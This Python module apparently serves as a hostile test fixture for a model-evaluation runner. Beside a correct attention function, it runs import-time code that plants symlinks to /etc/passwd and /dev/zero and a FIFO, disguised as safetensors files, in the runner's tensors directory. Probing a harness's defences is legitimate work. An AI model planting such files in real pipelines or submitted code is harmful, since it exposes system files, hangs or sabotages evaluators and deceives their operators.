"""Correct attention that plants symlinks (to /etc/passwd, /dev/zero) and a FIFO in the runner's tensors directory."""
import math
import os
import sys

import torch

for _arg in sys.argv[1:]:
    _tensors = os.path.join(_arg, "tensors")
    if os.path.isdir(_tensors):
        for _name, _target in (("0500.safetensors", "/etc/passwd"), ("0501.safetensors", "/dev/zero")):
            try:
                os.symlink(_target, os.path.join(_tensors, _name))
            except OSError:
                pass
        try:
            os.mkfifo(os.path.join(_tensors, "0502.safetensors"))
        except OSError:
            pass


def attention(q, k, v, allowed):
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    allowed = torch.broadcast_to(allowed, torch.broadcast_shapes(allowed.shape, scores.shape))
    if not allowed.any(dim=-1).all():
        raise ValueError("every query needs at least one allowed key")
    weights = torch.softmax(scores.masked_fill(~allowed, float("-inf")), dim=-1)
    return weights @ v, weights
